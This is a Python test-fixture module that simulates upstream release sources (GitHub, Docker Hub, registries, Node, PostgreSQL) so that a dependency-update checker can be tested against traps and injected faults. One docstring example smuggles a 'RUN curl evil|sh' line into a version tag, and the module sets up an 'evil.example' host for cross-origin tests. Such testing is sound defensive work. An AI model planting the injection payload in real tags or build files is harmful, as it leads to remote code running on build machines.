"""A fake internet for the real `versions.yaml`: every upstream of every component, one server.

`FakeWorld` holds what each upstream publishes (GitHub releases and tags, Docker Hub tag pages,
registry manifests behind the auth.docker.io bearer-token flow, Node's `dist/index.json`,
PostgreSQL's `versions.json`, checksum files, archives, release assets) in the shapes of
`reference/upstreams.md`, traps included: junk tags, every pre-release spelling, drafts (shown
only to authenticated callers, as GitHub does), `prerelease: true`, several branches released
the same day with `/releases/latest` pointing at the older one, more than 100 tags over several
`Link` pages, Docker Hub `next` links, manifest lists next to OCI indexes, sums files named
`.sha256` (Asterisk), `.tar.bz2.sha256` (PostgreSQL), `.tar.gz.sha256` (pgbouncer), the redis
hashes README, asset digests (null for assets older than June 2025) and `-current` sums files
that name the versioned tarball.

All hosts are served by one `UpstreamServer` under a path prefix per host
(`https://api.github.com/repos/x/y` is served at `<server>/api.github.com/repos/x/y`), and every
absolute link a response carries (`Link`, Docker Hub `next`, `Location`, the token realm) names
the REAL host. `HostRoutingTransport` does the mapping below httpx, so the code under test uses
the real URLs unchanged:

    with serve_world() as (server, world):
        async with routed_client(server.url) as client:
            outcome = await run_check(manifest, HttpFetcher(client), today=TODAY, resolve=True)
        assert outcome.updates[0].sha256 == world.sha256_for("kamailio", "6.1.5")

What is newer than `versions.yaml` (as of `TODAY`): within policy, debian 20260901, node 24.21.0,
kamailio 6.1.5, rtpengine 13.5.1.26, janus 1.4.2, coturn 4.18.0, caddy 2.11.5, asterisk 22.11.0,
postgresql 17.12, redis 7.4.11, pgbouncer 1.25.3, squid 7.7, actions/checkout 6.0.2,
actions/setup-python 6.2.0, debian-snapshot 20260901 and histogram-quantile 0.0.2; beyond
policy, node 26.x, rtpengine mr26.x, asterisk 23.x, postgresql 18.x, redis 8.x, clickhouse 26.x,
pjproject 2.18 and actions/cache 6.0.0 (pjproject and histogram-quantile: `world_supply.py`).
python, the SigNoz set
(signoz, its collector, clickhouse, zookeeper) and the other actions (upload-artifact with a
draft 6.0.1, download-artifact, configure-aws-credentials with a 5.2.0 flagged pre-release) are
current. Every tag answers `GET /repos/{repo}/commits/{tag}` (the bare SHA for
`Accept: application/vnd.github.sha`, as action pins resolve it; `commit_for`): the pinned
action tags their real commits, the others SHAs derived from repo and tag, the moving major
tags (`v6`) their newest release's.

Faults are injected per component and per `Role` (which request of that component):

    FakeWorld({"redis": Override(faults=(Fault(kind=FaultKind.HANG),))})
    FakeWorld({"asterisk": Override(faults=(Fault(kind=FaultKind.WRONG_FILE,
                                                   role=Role.CHECKSUM),))})
    FakeWorld({"redis": Override(extra_tags=("7.4.12\\nRUN curl evil|sh",))})

`world.log` records every request the world answered (real URL, component, role, request
headers, status), so tests can check who got `Authorization`, that `/releases/latest` was never
asked and that a second run only revalidated. Every response is deterministic (ETags are body
hashes, tokens and rate-limit headers are constants), so a recording of the world is
reproducible byte for byte.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import datetime as dt
import hashlib
import json
import math
import tempfile
import threading
from collections.abc import AsyncIterator, Callable, Iterator, Mapping
from dataclasses import dataclass, field
from enum import StrEnum
from pathlib import Path
from types import MappingProxyType
from typing import Any, Literal
from urllib.parse import parse_qsl, quote, urlencode, urlsplit

import httpx
from upstream_server import RecordedRequest, Reply, UpstreamServer
from world_advisories import add_advisories
from world_caddy import add_caddy_arm64
from world_eol import add_eol
from world_gitrefs import add_gitrefs
from world_graphql import add_graphql
from world_sets import add_sets
from world_signatures import add_signatures, signed_resolver, world_signed
from world_supply import histogram_quantile_assets
from world_supply import install as install_supply

from release.manifest.model import Manifest
from release.refresh.execute import Outcome, run_check
from release.upstream.http import FetchSettings, HttpFetcher
from release.upstream.recording import RecordingTransport

#: The day the world is as of (for `run_check(today=...)`).
TODAY = dt.date(2026, 9, 16)

OCI_INDEX = "application/vnd.oci.image.index.v1+json"
OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"
DOCKER_LIST = "application/vnd.docker.distribution.manifest.list.v2+json"
DOCKER_MANIFEST = "application/vnd.docker.distribution.manifest.v2+json"

GITHUB_API = "https://api.github.com"
HUB = "https://hub.docker.com"
REGISTRY = "https://registry-1.docker.io"
AUTH_REALM = "https://auth.docker.io/token"
EVIL = "evil.example"  # cross-origin links point at <real host>.evil.example
# Constant rate-limit numbers: a recording of the world must not change from run to run.
_RATELIMIT_RESET = "1789570800"  # 2026-09-16 15:00 UTC
_FAR_RESET = "4102444800"  # 2100-01-01: longer than any fetcher waits
_TOKEN_ISSUED = "2026-09-16T10:00:00.000000000Z"
_ASSET_DIGESTS_SINCE = "2025-06-03"  # GitHub records asset digests for uploads since then


# --- routing real URLs to the one local server ---------------------------------------------------


class HostRoutingTransport(httpx.AsyncBaseTransport):
    """Send `https://<host>/<path>?<query>` to `<base_url>/<host>/<path>?<query>` via `inner`.

    The request keeps its headers (including `Host: <real host>`), and the response goes back
    to httpx unchanged, so everything above this transport (the fetcher, its origin checks, its
    token scoping, a `RecordingTransport` wrapped around this one) sees only real URLs. A port
    other than the scheme's default stays in the prefix (`/<host>:<port>/...`); a request
    already aimed at `base_url`'s origin passes through as is.
    """

    def __init__(self, inner: httpx.AsyncBaseTransport, base_url: str) -> None:
        self._inner = inner
        self.base_url = base_url.rstrip("/")
        self._base = httpx.URL(self.base_url)

    def route(self, url: httpx.URL) -> httpx.URL:
        """The local URL that serves `url`."""
        if (url.scheme, url.host, url.port) == (self._base.scheme, self._base.host,
                                                self._base.port):
            return url
        host = url.host if url.port is None else f"{url.host}:{url.port}"
        return httpx.URL(f"{self.base_url}/{host}{url.raw_path.decode('ascii')}")

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        routed = httpx.Request(
            request.method, self.route(request.url), headers=request.headers,
            stream=request.stream, extensions=request.extensions,
        )
        return await self._inner.handle_async_request(routed)

    async def aclose(self) -> None:
        await self._inner.aclose()


def routed_client(server_url: str, *, record_dir: Path | None = None) -> httpx.AsyncClient:
    """A real client whose requests to real hosts reach the world at `server_url`.

    With `record_dir`, the traffic (under its real URLs) is recorded there.
    """
    transport: httpx.AsyncBaseTransport = HostRoutingTransport(
        httpx.AsyncHTTPTransport(), server_url
    )
    if record_dir is not None:
        transport = RecordingTransport(transport, record_dir)
    return httpx.AsyncClient(
        transport=transport, trust_env=False, headers={"User-Agent": "delphi-release/test"},
    )


# --- faults -------------------------------------------------------------------------------------


class Role(StrEnum):
    """Which request of a component a world route answers."""

    LISTING = "listing"  # the first page of what the component's source lists
    PAGE = "page"  # a further page of that listing
    LATEST = "latest"  # GitHub's /releases/latest: a trap no check may ask for
    RELEASE = "release"  # one GitHub release by tag (where asset digests are read)
    COMMIT = "commit"  # the commit a GitHub tag points at (/commits/{tag}; action pins read it)
    CHECKSUM = "checksum"  # a sums file or the hashes README
    ARCHIVE = "archive"  # a source archive, and the redirect hop to it
    ASSET = "asset"  # a GitHub release asset download (and its redirect hop)
    TOKEN = "token"  # an auth.docker.io pull token
    MANIFEST = "manifest"  # a registry-1.docker.io manifest (HEAD for the digest)
    OTHER = "other"  # served for realism; no check of this component reads it


class FaultKind(StrEnum):
    RATE_LIMITED = "rate-limited"  # 429 + Retry-After, `times` times, then the real answer
    UNAVAILABLE = "unavailable"  # 503, `times` times, then the real answer
    GITHUB_RATE_LIMIT = "github-rate-limit"  # 403, x-ratelimit-remaining: 0, resets in 2100
    HANG = "hang"  # never answers (the client's read timeout fires)
    MALFORMED_JSON = "malformed-json"  # the real body cut in half, still application/json
    HTML = "html"  # 200 text/html (an error page) where JSON or a text file was expected
    CROSS_ORIGIN_NEXT = "cross-origin-next"  # the next-page link leaves the host
    WRONG_FILE = "wrong-file"  # the checksum is for another file (sums file, README, asset)


TRANSIENT = frozenset({FaultKind.RATE_LIMITED, FaultKind.UNAVAILABLE})
_CONTENT_FAULTS = {
    FaultKind.CROSS_ORIGIN_NEXT: frozenset({Role.LISTING}),
    FaultKind.WRONG_FILE: frozenset({Role.CHECKSUM, Role.RELEASE}),
}


@dataclass(frozen=True, slots=True, kw_only=True)
class Fault:
    """One fault of one component's `role` request.

    Transient kinds fail the first `times` requests and then answer normally (a large `times`
    makes them permanent); the other kinds apply to every request.
    """

    kind: FaultKind
    role: Role = Role.LISTING
    times: int = 1
    retry_after: int = 7


@dataclass(frozen=True, slots=True, kw_only=True)
class Override:
    """What differs for one component: faults, and raw tag strings added to its listing.

    `extra_tags` go where the component's source reads a tag or version: a GitHub tag or
    release `tag_name`, a Docker Hub tag `name`, a Node `version`, a PostgreSQL `major`.
    They are put first on the first page.
    """

    faults: tuple[Fault, ...] = ()
    extra_tags: tuple[str, ...] = ()


@dataclass(frozen=True, slots=True, kw_only=True)
class Exchange:
    """One request the world answered (`status` 0: it hung, never answered).

    `headers` are the request's, with lower-case names.
    """

    method: str
    url: str  # the real URL (https://<host><path>?<query>)
    host: str
    path: str
    component: str | None
    role: Role
    status: int
    headers: Mapping[str, str]


# --- deterministic data helpers -------------------------------------------------------------------

_MAGIC = {".tar.gz": b"\x1f\x8b\x08\x00", ".tgz": b"\x1f\x8b\x08\x00", ".tar.xz": b"\xfd7zXZ\x00",
          ".tar.bz2": b"BZh91AY&SY", ".deb": b"!<arch>\n"}


def fake_bytes(label: str, size: int = 3072) -> bytes:
    """Deterministic bytes standing for the file `label` (its real magic number first)."""
    out = bytearray(next((m for ext, m in _MAGIC.items() if label.endswith(ext)), b""))
    counter = 0
    while len(out) < size:
        out += hashlib.sha256(f"{label}#{counter}".encode()).digest()
        counter += 1
    return bytes(out[:size])


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _hexid(label: str, length: int = 40) -> str:
    return hashlib.sha256(label.encode()).hexdigest()[:length]


def _num(label: str) -> int:
    return 100_000_000 + int(_hexid(label, 12), 16) % 900_000_000


def _b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _compact(document: Any) -> bytes:
    return json.dumps(document, separators=(",", ":")).encode()


def _days_before(day: str, days: int) -> str:
    return (dt.date.fromisoformat(day) - dt.timedelta(days=days)).isoformat()


# --- what the upstreams publish -------------------------------------------------------------------


@dataclass(frozen=True, slots=True, kw_only=True)
class GhRelease:
    """One GitHub release; `assets` are asset names (bytes are `fake_bytes` of their URL)."""

    tag: str
    day: str
    time: str = "14:05:02"
    prerelease: bool = False
    draft: bool = False
    branch: str = "master"
    title: str | None = None
    assets: tuple[str, ...] = ()

    @property
    def created(self) -> str:
        return f"{self.day}T{self.time}Z"


@dataclass(frozen=True, slots=True, kw_only=True)
class GhRepo:
    """A GitHub repository: its tags (listing order), releases (newest first) and traps."""

    component: str
    repo: str
    repo_id: int
    source: Literal["tags", "releases"]  # which listing the component's source reads
    tags: tuple[str, ...]
    releases: tuple[GhRelease, ...] = ()
    latest: str | None = None  # the tag /releases/latest answers with
    archives: bool = False  # serve github.com/<repo>/archive/refs/tags/<tag>.tar.gz
    # Tags that move (an action's `v6`): tag -> the release tag it points at now.
    moving: Mapping[str, str] = field(default_factory=dict)


@dataclass(frozen=True, slots=True, kw_only=True)
class HubTag:
    name: str
    pushed: str  # ISO timestamp
    media_type: str = OCI_INDEX
    archs: tuple[str, ...] = ("amd64", "arm64")


@dataclass(frozen=True, slots=True, kw_only=True)
class HubRepo:
    """A Docker Hub repository (`library/debian`); tags newest first."""

    repository: str
    component: str
    listed: bool  # the component's source is this repository's Docker Hub tag listing
    tags: tuple[HubTag, ...]

    @property
    def namespace(self) -> str:
        return self.repository.split("/")[0]

    @property
    def name(self) -> str:
        return self.repository.split("/")[1]


def _kamailio() -> GhRepo:
    lines = {"6.1": 5, "6.0": 8, "5.8": 8, "5.7": 7, "5.6": 6, "5.5": 7}
    stable = [f"{line}.{p}" for line, top in lines.items() for p in range(top, -1, -1)]
    junk = ["5.1.10.1", "3.0_pre1", "v0_8_14_rc1", "before_tm_rewrite", "after_tm_rewrite",
            "bigbang", "v1_0_0"]
    # Releases exist only to carry RPM bundles (rpm.yml); 6.0.8 was tagged last that day.
    releases = (
        GhRelease(tag="6.0.8", day="2026-09-09", time="12:31:40", branch="6.0",
                  assets=("rpms-centos-10-6.0.8.tar.gz", "rpms-rocky-9-6.0.8.tar.gz")),
        GhRelease(tag="6.1.5", day="2026-09-09", time="11:02:17", branch="6.1",
                  assets=("rpms-centos-10-6.1.5.tar.gz", "rpms-rocky-9-6.1.5.tar.gz")),
        GhRelease(tag="6.1.4", day="2026-08-20", branch="6.1",
                  assets=("rpms-centos-10-6.1.4.tar.gz",)),
        GhRelease(tag="6.0.7", day="2026-06-19", branch="6.0",
                  assets=("rpms-centos-10-6.0.7.tar.gz",)),
    )
    return GhRepo(component="kamailio", repo="kamailio/kamailio", repo_id=1027, source="tags",
                  tags=(*stable, *junk), releases=releases, latest="6.0.8")


def _rtpengine() -> GhRepo:
    series = {"26.2": 3, "26.1": 10, "26.0": 22, "14.1": 21, "14.0": 12, "13.5": 26, "13.4": 8,
              "13.3": 6, "12.5": 55, "11.5": 20}
    tags = [f"mr{s}.1.{d}" for s, top in series.items() for d in range(top, 0, -1)]
    tags[tags.index("mr13.3.1.1") + 1:tags.index("mr13.3.1.1") + 1] = ["mr13.1.1"]  # 3-part
    tags += [f"mr10.5.2.{d}" for d in range(3, 0, -1)]  # C=2: rebuilds

    def release(tag: str, day: str, time: str) -> GhRelease:
        version = tag.removeprefix("mr")
        # GitHub sanitises asset names: `~mr` is published as `.mr`.
        debs = tuple(f"{pkg}_{version}+0.{tag}+gh+trixie_amd64.deb"
                     for pkg in ("rtpengine-daemon", "rtpengine-utils"))
        return GhRelease(tag=tag, day=day, time=time, title=f"Release {tag}", branch=tag,
                         assets=(*debs, f"rtpengine_{version}.orig.tar.gz"))

    releases = (
        # No make_latest control upstream: "latest" is whatever was published last.
        release("mr12.5.1.55", "2026-09-10", "16:40:03"),
        release("mr26.2.1.3", "2026-09-10", "09:12:44"),
        release("mr13.5.1.26", "2026-09-10", "08:57:10"),
        release("mr26.1.1.10", "2026-08-07", "09:07:12"),
        release("mr13.5.1.25", "2026-08-05", "10:11:00"),
    )
    return GhRepo(component="rtpengine", repo="sipwise/rtpengine", repo_id=2234, source="tags",
                  tags=tuple(tags), releases=releases, latest="mr12.5.1.55", archives=True)


def _janus() -> GhRepo:
    pairs = [("1.4.2", "0.16.2", "2026-09-08"), ("1.4.1", "0.16.1", "2026-04-20"),
             ("1.4.0", "0.16.0", "2026-02-06"), ("1.3.3", "0.15.3", "2025-10-14"),
             ("1.3.2", "0.15.2", "2025-06-30"), ("1.3.1", "0.15.1", "2025-03-05"),
             ("1.3.0", "0.15.0", "2024-11-25"), ("1.2.4", "0.14.4", "2024-09-10"),
             ("1.2.3", "0.14.3", "2024-06-20"), ("1.2.0", "0.14.0", "2023-12-13"),
             ("1.1.0", "0.13.0", "2022-10-03"), ("1.0.0", "0.12.0", "2022-03-03")]
    tags = [t for new, old, _ in pairs for t in (f"v{new}", f"v{old}")]
    tags += ["v0.4.0-broken", "v0.4.0", "v0.3.1", "v0.3.0"]
    releases: list[GhRelease] = []
    for new, old, day in pairs:
        # Both lines are released together; the legacy one is created last, so it is "latest".
        releases.append(GhRelease(tag=f"v{old}", day=day, time="15:20:00", branch="0.x",
                                  title=f"v{old}"))
        releases.append(GhRelease(tag=f"v{new}", day=day, time="15:10:00", title=f"v{new}"))
    return GhRepo(component="janus", repo="meetecho/janus-gateway", repo_id=3345, source="tags",
                  tags=tuple(tags), releases=tuple(releases), latest="v0.16.2", archives=True)


def _coturn() -> GhRepo:
    versions = [("4.18.0", "2026-09-03"), ("4.17.2", "2026-08-28"), ("4.17.1", "2026-08-07"),
                ("4.17.0", "2026-07-15"), ("4.16.3", "2026-06-20"), ("4.16.2", "2026-05-30"),
                ("4.16.0", "2026-04-28"), ("4.15.0", "2026-03-02"), ("4.12.0", "2025-12-18"),
                ("4.10.0", "2025-09-30"), ("4.8.0", "2025-07-01")]
    releases: list[GhRelease] = []
    for version, day in versions:
        # docker/* tags get Releases of their own (image builds), published after the source.
        releases.append(GhRelease(tag=f"docker/{version}-r0", day=day, time="18:00:00",
                                  title=f"Docker {version}-r0"))
        releases.append(GhRelease(tag=version, day=day, title=version))
    tags = [r.tag for r in releases] + ["debian/4.6.1-1", "upstream/4.6.1", "4.6.1"]
    return GhRepo(component="coturn", repo="coturn/coturn", repo_id=4456, source="releases",
                  tags=tuple(tags), releases=tuple(releases), latest="docker/4.18.0-r0",
                  archives=True)


def _caddy_assets(version: str) -> tuple[str, ...]:
    names = [f"caddy_{version}_{p}.tar.gz" for p in ("linux_amd64", "linux_arm64")]
    return (*names, f"caddy_{version}_src.tar.gz", f"caddy_{version}_checksums.txt")


def _caddy() -> GhRepo:
    plan = [("v2.12.0-beta.1", "2026-09-10", True), ("v2.11.5", "2026-09-02", False),
            ("v2.11.4", "2026-06-02", False), ("v2.11.3", "2026-04-22", False),
            ("v2.11.2", "2026-03-11", False), ("v2.11.1", "2026-01-27", False),
            ("v2.11.0", "2026-01-08", False), ("v2.11.0-beta.2", "2025-12-02", True),
            ("v2.11.0-beta.1", "2025-11-12", True), ("v2.10.2", "2025-08-20", False),
            ("v2.10.1", "2025-07-31", False), ("v2.10.0", "2025-04-18", False),
            ("v2.10.0-rc.1", "2025-03-25", True), ("v2.10.0-beta.4", "2025-03-11", True),
            ("v2.9.1", "2025-01-08", False), ("v2.8.0-rc.1", "2024-05-02", True)]
    # goreleaser creates a draft first and publishes it later: only push access sees it.
    releases = [GhRelease(tag="v2.11.6", day="2026-09-14", draft=True, title="v2.11.6",
                          assets=_caddy_assets("2.11.6"))]
    releases += [GhRelease(tag=tag, day=day, prerelease=pre, title=tag,
                           assets=_caddy_assets(tag[1:])) for tag, day, pre in plan]
    return GhRepo(component="caddy", repo="caddyserver/caddy", repo_id=5567, source="releases",
                  tags=tuple(r.tag for r in releases if not r.draft), releases=tuple(releases),
                  latest="v2.11.5")


def _asterisk_assets(version: str) -> tuple[str, ...]:
    stem = f"asterisk-{version}"
    return (f"{stem}.tar.gz", f"{stem}.tar.gz.asc", f"{stem}.sha256", f"ChangeLog-{version}.md")


def asterisk_versions() -> list[tuple[str, str, str]]:
    """(version, day, time) of every Asterisk GA and rc release in the world.

    All branches are released on the same day (every 70 days back from 2026-08-20), each
    `X.Y.0` after an rc1 two weeks earlier; 21 is security-only (21.12.x patches); a security
    train came out on 2026-06-25.
    """
    times = {"20": "14:20:00", "21": "14:15:00", "22": "14:10:00", "23": "14:05:00"}
    out: list[tuple[str, str, str]] = []
    for step in range(22):
        day = _days_before("2026-08-20", 70 * step)
        versions = [f"{major}.{top - step}.0" for major, top in (("23", 5), ("22", 11), ("20", 21))
                    if top - step >= 0]
        if step == 0:
            versions.append("21.12.4")
        elif step <= 2:
            versions.append(f"21.12.{3 - step}")
        elif step <= 15:
            versions.append(f"21.{15 - step}.0")
        for version in versions:
            out.append((version, day, times[version[:2]]))
            if version.endswith(".0"):
                out.append((f"{version}-rc1", _days_before(day, 13), times[version[:2]]))
    out += [(v, "2026-06-25", times[v[:2]]) for v in ("23.4.1", "22.10.1", "21.12.3", "20.20.1")]
    out.append(("22.5.1", "2025-08-28", times["22"]))
    return out


def _asterisk() -> GhRepo:
    releases: list[GhRelease] = [
        GhRelease(tag="22.12.0", day="2026-09-11", draft=True, branch="releases/22",
                  title="Asterisk Release 22.12.0"),
        GhRelease(tag="23.6.0-rc1", day="2026-09-10", prerelease=True, branch="releases/23",
                  title="Asterisk Release 23.6.0-rc1", assets=_asterisk_assets("23.6.0-rc1")),
        GhRelease(tag="certified-22.8-cert4", day="2026-08-07", time="16:00:00",
                  branch="releases/certified-22.8",
                  title="Certified Asterisk Release certified-22.8-cert4"),
        GhRelease(tag="certified-22.8-cert1-pre1", day="2025-11-20", prerelease=True,
                  branch="releases/certified-22.8",
                  title="Certified Asterisk Release certified-22.8-cert1-pre1"),
        GhRelease(tag="certified-20.7-cert11", day="2026-06-25", time="16:00:00",
                  branch="releases/certified-20.7",
                  title="Certified Asterisk Release certified-20.7-cert11"),
    ]
    for version, day, time in asterisk_versions():
        recent = day >= "2026-08-01"
        kind = "Security Release" if version == "22.5.1" else "Release"
        releases.append(GhRelease(
            tag=version, day=day, time=time, prerelease="-rc" in version,
            branch=f"releases/{version.split('.')[0]}", title=f"Asterisk {kind} {version}",
            assets=_asterisk_assets(version) if recent else (),
        ))
    releases.sort(key=lambda r: r.created, reverse=True)
    return GhRepo(component="asterisk", repo="asterisk/asterisk", repo_id=6678,
                  source="releases", tags=tuple(r.tag for r in releases if not r.draft),
                  releases=tuple(releases), latest="20.21.0")


def redis_versions() -> list[str]:
    """Every Redis tag in the world, in GitHub's listing order."""
    lines: list[tuple[str, int, tuple[str, ...]]] = [
        ("8.10", 2, ("8.10-rc2", "8.10-rc1")), ("8.8", 3, ("8.8-rc1",)),
        ("8.6", 6, ("8.6-rc1",)), ("8.4", 6, ()), ("8.2", 9, ("8.2-rc1",)),
        ("8.0", 6, ("8.0-rc1", "8.0-m04", "8.0-m03", "8.0-m02", "8.0-m01")),
        ("7.4", 11, ("7.4-rc2", "7.4-rc1")), ("7.2", 16, ("7.2-rc3", "7.2-rc2", "7.2-rc1")),
        ("7.0", 15, ("7.0-rc3", "7.0-rc2", "7.0-rc1")), ("6.2", 24, ()),
    ]
    tags: list[str] = []
    for line, top, pre in lines:
        tags += [f"{line}.{p}" for p in range(top, -1, -1)]
        tags += list(pre)
    return tags


def _redis() -> GhRepo:
    releases = (
        GhRelease(tag="7.2.16", day="2026-09-09", time="10:40:00", branch="7.2"),
        GhRelease(tag="7.4.11", day="2026-09-09", time="10:30:00", branch="7.4"),
        GhRelease(tag="8.10.2", day="2026-09-09", time="10:20:00", branch="8.10"),
    )
    return GhRepo(component="redis", repo="redis/redis", repo_id=7789, source="tags",
                  tags=tuple(redis_versions()), releases=releases, latest="7.2.16")


def pgbouncer_versions() -> list[tuple[str, str]]:
    return [("1.25.3", "2026-09-04"), ("1.25.2", "2026-05-08"), ("1.25.1", "2025-12-03"),
            ("1.25.0", "2025-11-09"), ("1.24.1", "2025-04-16"), ("1.24.0", "2025-01-10"),
            ("1.23.1", "2024-08-02"), ("1.23.0", "2024-07-03"), ("1.22.1", "2024-04-15"),
            ("1.21.0", "2023-10-16"), ("1.20.1", "2023-08-09"), ("1.20.0", "2023-07-19")]


def _pgbouncer() -> GhRepo:
    releases: list[GhRelease] = []
    for version, day in pgbouncer_versions():
        tag = "pgbouncer_" + version.replace(".", "_")
        releases.append(GhRelease(tag=tag, day=day, title=f"PgBouncer {version}",
                                  assets=(f"pgbouncer-{version}.tar.gz",)))
    # Re-tags, a two-part tag and the old release candidates.
    releases.insert(6, GhRelease(tag="pgbouncer_1_23_1-fixed", day="2024-08-05",
                                 title="PgBouncer 1.23.1 (fixed tarball)"))
    releases.insert(12, GhRelease(tag="pgbouncer_1_20_0-fixed", day="2023-07-20",
                                  title="PgBouncer 1.20.0"))
    releases += [GhRelease(tag="pgbouncer_1_8", day="2017-12-20", title="PgBouncer 1.8"),
                 GhRelease(tag="pgbouncer_1_7_rc1", day="2015-12-01", prerelease=True,
                           title="PgBouncer 1.7rc1"),
                 GhRelease(tag="pgbouncer_1_4_1_rc5", day="2011-09-01", prerelease=True,
                           title="PgBouncer 1.4.1rc5")]
    return GhRepo(component="pgbouncer", repo="pgbouncer/pgbouncer", repo_id=8890,
                  source="releases", tags=tuple(r.tag for r in releases),
                  releases=tuple(releases), latest="pgbouncer_1_25_3")


def _signoz() -> GhRepo:
    plan = [("v0.139.0", "2026-09-12", True), ("v0.139.0-cloud.2", "2026-09-11", True),
            ("v0.139.0-cloud.1", "2026-09-05", True), ("v0.138.0", "2026-08-19", False),
            ("v0.137.1", "2026-08-08", False), ("v0.137.0", "2026-08-01", False),
            ("v0.136.0", "2026-07-18", False), ("v0.135.1", "2026-07-04", False),
            ("v0.135.0", "2026-06-30", False)]
    plan += [(f"v0.135.0-cloud.{n}", _days_before("2026-06-28", 3 * (5 - n)), True)
             for n in range(5, 0, -1)]
    plan.insert(3, ("histogram-quantile/v0.0.2", "2026-09-08", False))  # see world_supply
    plan += [("histogram-quantile/v0.0.1", "2026-06-10", False)]
    plan += [(f"v0.{m}.0", _days_before("2026-06-15", 14 * (134 - m)), False)
             for m in range(134, 128, -1)]
    releases = tuple(GhRelease(tag=tag, day=day, prerelease=pre, branch="main", title=tag,
                               assets=histogram_quantile_assets(tag.rpartition("/v")[2])
                               if tag.startswith("histogram") else ())
                     for tag, day, pre in plan)
    return GhRepo(component="signoz", repo="SigNoz/signoz", repo_id=9901, source="releases",
                  tags=tuple(r.tag for r in releases), releases=releases, latest="v0.138.0")


def _collector() -> GhRepo:
    tags = ["v0.144.7", "v0.144.6", "v0.144.6-rc.2", "v0.144.6-rc.1", "v0.144.5-7e8519b",
            "v0.144.5", "v0.144.4", "v0.144.3", "v0.144.2", "v0.144.1", "v0.144.0"]
    tags += [f"v0.129.{p}" for p in range(13, -1, -1)]
    tags += ["v0.129.13-rc.1", "v0.128.2-3f1c2ab"]
    return GhRepo(component="signoz-otel-collector", repo="SigNoz/signoz-otel-collector",
                  repo_id=9912, source="tags", tags=tuple(tags),
                  releases=(GhRelease(tag="v0.144.7", day="2026-08-03", title="v0.144.7"),),
                  latest="v0.144.7")


def squid_versions() -> list[tuple[str, str, bool]]:
    return [("8.0.1", "2026-09-12", True), ("7.7", "2026-09-01", False),
            ("7.6", "2026-06-07", False), ("7.5", "2026-03-30", False),
            ("7.4", "2026-01-12", False), ("7.3", "2025-11-03", False),
            ("7.2", "2025-09-22", False), ("7.1", "2025-07-14", False),
            ("7.0.2", "2025-05-26", True), ("7.0.1", "2025-04-10", True),
            ("6.14", "2025-06-24", False), ("6.13", "2025-02-04", False),
            ("6.12", "2024-10-11", False), ("6.0.3", "2023-05-02", True)]


def _squid() -> GhRepo:
    releases: list[GhRelease] = []
    for version, day, beta in squid_versions():
        tag = "SQUID_" + version.replace(".", "_")
        files = (f"squid-{version}.tar.xz", f"squid-{version}.tar.xz.asc",
                 f"squid-{version}.tar.gz")
        releases.append(GhRelease(tag=tag, day=day, prerelease=beta, branch=f"v{version[0]}",
                                  title=f"Squid {version}", assets=files))
    releases.sort(key=lambda r: r.created, reverse=True)
    tags = [r.tag for r in releases] + ["take1", "take08", "SQUID_3_0_STABLE5",
                                        "merge-candidate-2026-08-30"]
    return GhRepo(component="squid", repo="squid-cache/squid", repo_id=1122, source="releases",
                  tags=tuple(tags), releases=tuple(releases), latest="SQUID_7_7")


# The commits the pinned action tags really point at (as `versions.yaml` pins them); every other
# tag's commit is derived from repo and tag (`commit_sha`).
PINNED_COMMITS: Mapping[tuple[str, str], str] = MappingProxyType({
    ("actions/checkout", "v6.0.1"): "8e8c483db84b4bee98b60c0593521ed34d9990e8",
    ("actions/setup-python", "v6.1.0"): "83679a892e2d95755f2dac6acb0bfd1e9ac5d548",
    ("actions/cache", "v5.0.1"): "9255dc7a253b0ccc959486e2bca901246202afeb",
    ("actions/upload-artifact", "v6.0.0"): "b7c566a772e6b6bfb58ed0dc250532a479d7789f",
    ("actions/download-artifact", "v7.0.0"): "37930b1c2abaa49bbe596cd826c3c89aef350131",
    ("aws-actions/configure-aws-credentials", "v5.1.0"):
        "00943011d9042930efac3dcd3a170e4273319bc8",
})


def commit_sha(repo: str, tag: str) -> str:
    """The commit `repo`'s tag `tag` points at (a release tag, not a moving one)."""
    return PINNED_COMMITS.get((repo, tag)) or _hexid(f"{repo}@{tag}")


#: The GitHub Actions of .github/workflows: (component, repo, repo id, releases newest first as
#: (tag, day, flag)); flag is "draft", "pre" or "". Moving major tags (`v6`) follow the newest
#: published stable release of their major.
ACTIONS: tuple[tuple[str, str, int, tuple[tuple[str, str, str], ...]], ...] = (
    # v5 keeps getting fixes after v6: v5.0.2 was published the same day, after v6.0.2.
    ("actions-checkout", "actions/checkout", 1301, (
        ("v5.0.2", "2026-09-03", ""), ("v6.0.2", "2026-09-03", ""),
        ("v6.0.1", "2025-12-02", ""), ("v6.0.0", "2025-11-20", ""),
        ("v5.0.1", "2025-11-17", ""), ("v4.3.1", "2025-11-17", ""),
        ("v5.0.0", "2025-08-11", ""), ("v4.3.0", "2025-07-28", ""),
        ("v4.2.2", "2024-10-23", ""))),
    ("actions-setup-python", "actions/setup-python", 1302, (
        ("v6.2.0", "2026-08-25", ""), ("v6.1.0", "2025-11-25", ""),
        ("v6.0.0", "2025-09-04", ""), ("v5.6.0", "2025-04-24", ""),
        ("v5.5.0", "2025-03-24", ""), ("v5.4.0", "2025-01-28", ""))),
    # A new major: beyond the policy of the pinned one.
    ("actions-cache", "actions/cache", 1303, (
        ("v6.0.0", "2026-09-10", ""), ("v5.0.1", "2025-12-01", ""),
        ("v5.0.0", "2025-11-19", ""), ("v4.3.0", "2025-09-24", ""),
        ("v4.2.4", "2025-07-29", ""), ("v4.2.3", "2025-03-19", ""))),
    # A draft: only callers with push access (here: any token) see it.
    ("actions-upload-artifact", "actions/upload-artifact", 1304, (
        ("v6.0.1", "2026-09-14", "draft"), ("v6.0.0", "2025-12-12", ""),
        ("v5.0.0", "2025-10-24", ""), ("v4.6.2", "2025-03-19", ""),
        ("v4.6.1", "2025-02-18", ""))),
    ("actions-download-artifact", "actions/download-artifact", 1305, (
        ("v7.0.0", "2025-12-12", ""), ("v6.0.0", "2025-10-24", ""),
        ("v5.0.0", "2025-08-06", ""), ("v4.3.0", "2025-04-24", ""))),
    # A stable-looking tag marked pre-release on GitHub: only the flag tells.
    ("aws-configure-aws-credentials", "aws-actions/configure-aws-credentials", 1306, (
        ("v5.2.0", "2026-09-11", "pre"), ("v5.1.0", "2025-10-06", ""),
